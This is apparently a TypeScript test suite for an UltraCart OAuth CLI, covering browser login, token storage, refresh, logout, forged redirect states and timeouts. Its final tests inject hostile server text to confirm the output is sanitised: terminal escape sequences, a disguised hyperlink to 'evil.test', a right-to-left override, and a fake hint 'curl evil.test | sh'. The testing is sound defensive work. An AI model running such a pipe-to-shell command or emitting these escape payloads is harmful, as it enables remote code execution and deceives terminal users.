import { FileSystem } from "@effect/platform"
import { describe, expect, it } from "@effect/vitest"
import { AuthorizeDecision, Fault } from "@ultracart-oauth/testing"
import { Effect, Option } from "effect"
import { CLIENT } from "../src/DevServer.js"
import { follow, followTampered, login, provide, setup } from "./fakeLogin.js"
import { controlCharacters, NodeEnvironment, runCli } from "./harness.js"

// The browser login end to end: the CLI in this process, the fake UltraCart on a loopback port, and the test as
// the merchant's browser, following the authorize URL the CLI prints to the CLI's own loopback listener.

describe("login", () => {
  it.live("stores the tokens; token, status, whoami, refresh and logout work on them", () =>
    provide(
      Effect.gen(function* () {
        const { fake, home, run, env } = yield* setup()
        const { page, result, url } = yield* login(env, follow)
        expect(result.exitCode).toBe(0)
        expect(page.status).toBe(200)
        expect(page.body).toContain("Done")
        expect(result.out).toContain(
          `Logged in: grant "${CLIENT.clientId}" stored in ${home}/.config/ultracart-oauth/tokens`
        )
        expect(new URL(url).searchParams.get("redirect_uri")).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/callback$/)

        // `token` prints the access token the fake issued, and nothing else.
        const token = yield* run(["token"])
        expect(token.exitCode).toBe(0)
        const accessToken = token.out.trim()
        expect(token.out).toBe(accessToken)
        expect(Option.map(yield* fake.inspectToken(accessToken), (i) => [i.kind, i.status])).toEqual(
          Option.some(["access", "active"])
        )
        // Every other command keeps it to itself.
        expect(result.all).not.toContain(accessToken)

        const status = yield* run(["status"])
        expect(status.exitCode).toBe(0)
        expect(status.out).toContain("Access token:  valid")
        expect(status.out).toContain("Refresh token: stored")
        expect(status.out).toContain(`Token store:   ${home}/.config/ultracart-oauth/tokens (default)`)
        expect(status.all).not.toContain(accessToken)

        const whoami = yield* run(["whoami"])
        expect(whoami.exitCode).toBe(0)
        expect(whoami.out).toContain("Merchant:    DEMO")
        expect(whoami.out).toContain("order_read")

        const refresh = yield* run(["refresh"])
        expect(refresh.exitCode).toBe(0)
        expect(refresh.out).toContain("Refreshed grant")
        const refreshed = (yield* run(["token"])).out.trim()
        expect(refreshed).not.toBe(accessToken)
        expect(refresh.all).not.toContain(refreshed)

        const logout = yield* run(["logout"])
        expect(logout.exitCode).toBe(0)
        expect(logout.out).toContain("Refresh token: revoked")
        expect(Option.map(yield* fake.inspectToken(refreshed), (i) => i.status)).toEqual(Option.some("revoked"))
        expect(logout.all).not.toContain(refreshed)

        const after = yield* run(["status"])
        expect(after.exitCode).toBe(3)
        expect(after.out).toContain("Logged in:     no")
      })
    )
  )

  it.live("whoami refreshes once when UltraCart refuses a token the store still thinks valid", () =>
    provide(
      Effect.gen(function* () {
        const { env, fake, run } = yield* setup()
        expect((yield* login(env, follow)).result.exitCode).toBe(0)
        const before = (yield* run(["token"])).out.trim()
        // UltraCart's clock runs 61 minutes ahead: for it, the one-hour token has expired.
        yield* fake.setClockOffset(61 * 60 * 1000)
        const whoami = yield* run(["whoami"])
        expect(whoami.exitCode).toBe(0)
        expect(whoami.out).toContain("Merchant:    DEMO")
        expect(yield* fake.requestCount({ endpoint: "me" })).toBe(2)
        expect(yield* fake.requestCount({ endpoint: "token", grantType: "refresh_token" })).toBe(1)
        expect((yield* run(["token"])).out.trim()).not.toBe(before)
      })
    )
  )

  it.live("a redirect with another state gets a 400 page and the login waits on for its own", () =>
    provide(
      Effect.gen(function* () {
        const { fake, env, run } = yield* setup()
        const { page, result } = yield* login(env, async (url) => {
          const authorize = await fetch(url, { redirect: "manual" })
          const callback = new URL(authorize.headers.get("location") ?? "")
          const forged = new URL(callback)
          forged.searchParams.set("state", "forged-state-0123456789abcdef")
          forged.searchParams.set("code", "forged-code")
          const refused = await follow(forged.toString())
          const stateless = await follow(`${callback.origin}${callback.pathname}`)
          // Still listening: the real redirect is accepted after both.
          return { refused, stateless, real: await follow(callback.toString()) }
        })
        expect(page.refused.status).toBe(400)
        expect(page.refused.body).toContain("does not carry the state of the login in progress")
        expect(page.stateless.status).toBe(400)
        expect(page.real.status).toBe(200)
        expect(result.exitCode).toBe(0)
        expect(result.err.match(/warning: refused a request to the redirect URI/g)).toHaveLength(2)
        // Only the real code was exchanged.
        const exchanges = (yield* fake.requests).filter((r) => r.endpoint === "token")
        expect(exchanges.map((r) => r.form["code"] === "forged-code")).toEqual([false])
        expect((yield* run(["status"])).exitCode).toBe(0)
      })
    )
  )

  it.live("only forged redirects until --timeout: exit 3, nothing exchanged, and the refusals counted", () =>
    provide(
      Effect.gen(function* () {
        const { fake, env } = yield* setup()
        const { page, result } = yield* login(
          env,
          followTampered((callback) => callback.searchParams.set("state", "forged-state-0123456789abcdef")),
          ["--timeout", "1"]
        )
        expect(page.status).toBe(400)
        expect(result.exitCode).toBe(3)
        expect(result.err).toContain(
          "No redirect for this login arrived within 1 seconds (1 request without this login's state refused)"
        )
        expect(yield* fake.requestCount({ endpoint: "token" })).toBe(0)
      })
    )
  )

  it.live("an expired code is refused by UltraCart (exit 3, log in again)", () =>
    provide(
      Effect.gen(function* () {
        const { env } = yield* setup({ codeLifetime: "1 millis" })
        const { result } = yield* login(env, async (url) => {
          const authorize = await fetch(url, { redirect: "manual" })
          await new Promise((resolve) => setTimeout(resolve, 5))
          return follow(authorize.headers.get("location") ?? "")
        })
        expect(result.exitCode).toBe(3)
        expect(result.err).toContain("invalid_grant")
        expect(result.err).toContain("hint: run `ultracart-oauth login`")
      })
    )
  )

  it.live("an expired authorize URL and a declined consent both end with exit 3", () =>
    provide(
      Effect.gen(function* () {
        const { env, fake } = yield* setup()
        yield* fake.setAuthorizeDecision(AuthorizeDecision.expire)
        const expired = yield* login(env, follow)
        expect(expired.result.exitCode).toBe(3)
        expect(expired.result.err).toContain("expired")

        yield* fake.setAuthorizeDecision(AuthorizeDecision.deny("not today"))
        const denied = yield* login(env, follow)
        expect(denied.result.exitCode).toBe(3)
        expect(denied.result.err).toContain("declined")
      })
    )
  )

  it.live("no redirect before --timeout ends the login (exit 3)", () =>
    provide(
      Effect.gen(function* () {
        const { env } = yield* setup()
        const result = yield* runCli(["login", "--timeout", "0"], { env })
        expect(result.exitCode).toBe(3)
        expect(result.err).toContain("No redirect for this login arrived within 0 seconds")
      })
    )
  )

  it.live("an unreachable UltraCart is a transient failure (exit 4)", () =>
    provide(
      Effect.gen(function* () {
        const { env, run } = yield* setup()
        expect((yield* login(env, follow)).result.exitCode).toBe(0)
        const offline = { ...env, ULTRACART_BASE_URL: "http://127.0.0.1:9/rest/v2" }
        const whoami = yield* runCli(["whoami"], { env: offline })
        expect(whoami.exitCode).toBe(4)
        expect(whoami.err).toContain("hint: check the network")
        // The stored grant is untouched.
        expect((yield* run(["status"])).exitCode).toBe(0)
      })
    )
  )
})

/** The record file of the fake app's grant in a test's default token directory. */
const recordOf = (home: string) => `${home}/.config/ultracart-oauth/tokens/grant-${CLIENT.clientId}.json`

const writeText = (path: string, text: string) =>
  Effect.flatMap(FileSystem.FileSystem, (fs) => Effect.orDie(fs.writeFileString(path, text))).pipe(
    Effect.provide(NodeEnvironment)
  )

describe("login saves safely", () => {
  it.live("a store that cannot take the tokens fails the login before the merchant is sent anywhere", () =>
    provide(
      Effect.gen(function* () {
        const { env, fake, home } = yield* setup()
        // A record that does not decode: saving rewrites it, so saving would fail after the code was spent.
        yield* Effect.flatMap(FileSystem.FileSystem, (fs) =>
          Effect.orDie(fs.makeDirectory(`${home}/.config/ultracart-oauth/tokens`, { recursive: true }))
        ).pipe(Effect.provide(NodeEnvironment))
        yield* writeText(recordOf(home), "{ not a record")
        const result = yield* runCli(["login", "--timeout", "1"], { env })
        expect(result.exitCode).toBe(1)
        expect(result.err).toContain("(Corrupt)")
        expect(result.out).not.toContain("/oauth/authorize?")
        expect(yield* fake.requestCount()).toBe(0)
      })
    )
  )

  it.live("tokens that cannot be stored after the exchange are revoked at once, and the CLI says so", () =>
    provide(
      Effect.gen(function* () {
        const { env, fake, home } = yield* setup()
        const { page, result } = yield* login(env, async (url) => {
          const authorize = await fetch(url, { redirect: "manual" })
          // The store breaks between the check and the save.
          await Effect.runPromise(writeText(recordOf(home), "{ not a record"))
          return follow(authorize.headers.get("location") ?? "")
        })
        expect(result.exitCode).toBe(1)
        expect(result.err).toContain(`The new tokens of grant "${CLIENT.clientId}" could not be stored`)
        expect(result.err).toContain("they were revoked at UltraCart, so no grant is left behind")
        expect(result.err).toContain("then log in again")
        expect(page.status).toBe(400)
        expect(page.body).toContain("could not be stored")
        // Both tokens the exchange issued were revoked.
        const revoked = (yield* fake.requests).filter((r) => r.endpoint === "revoke").map((r) => r.form["token"] ?? "")
        expect(revoked).toHaveLength(2)
        const states = yield* Effect.forEach(revoked, (token) => fake.inspectToken(token))
        expect(states.map(Option.map((info) => [info.kind, info.status]))).toEqual([
          Option.some(["refresh", "revoked"]),
          Option.some(["access", "revoked"])
        ])
      })
    )
  )
})

describe("what a server sends is printed inert", () => {
  it.live("an error description with escape sequences and line breaks stays one plain line", () =>
    provide(
      Effect.gen(function* () {
        const { env, fake } = yield* setup()
        yield* fake.injectFault(
          Fault.respond({
            status: 400,
            headers: { "content-type": "application/json" },
            body: JSON.stringify({
              error: "invalid_grant",
              error_description: "\u001b]0;pwned\u0007\u001b[2Jbad code\r\nhint: curl evil.test | sh\u009b1A"
            })
          }),
          { endpoint: "token" }
        )
        const { result } = yield* login(env, follow)
        expect(result.exitCode).toBe(3)
        expect(controlCharacters(result.all)).toEqual([])
        expect(result.err).toContain("bad code")
        expect(result.err.split("\n").filter((line) => line.startsWith("hint:"))).toEqual([
          "hint: run `ultracart-oauth login` (or `device-login`) to authorize the app again"
        ])
      })
    )
  )

  it.live("whoami prints a hostile merchant id and permissions as plain text, and as inert JSON", () =>
    provide(
      Effect.gen(function* () {
        const { env, fake, run } = yield* setup()
        expect((yield* login(env, follow)).result.exitCode).toBe(0)
        const body = JSON.stringify({
          merchant_id: "DEMO\u001b]8;;https://evil.test\u001b\\click\u001b]8;;\u001b\\",
          permissions: ["order_read\u001b[2K", "\u202eetirw_redro"]
        })
        const respond = Fault.respond({ status: 200, headers: { "content-type": "application/json" }, body })
        yield* fake.injectFault(respond, { endpoint: "me", times: 2 })
        const text = yield* run(["whoami"])
        expect(text.exitCode).toBe(0)
        expect(controlCharacters(text.all)).toEqual([])
        expect(text.out).toContain("Merchant:    DEMOclick")
        expect(text.out).toContain("Permissions: order_read etirw_redro")
        const json = yield* run(["whoami", "--json"])
        expect(controlCharacters(json.all)).toEqual([])
        expect(JSON.parse(json.out)).toEqual(JSON.parse(body))
      })
    )
  )
})
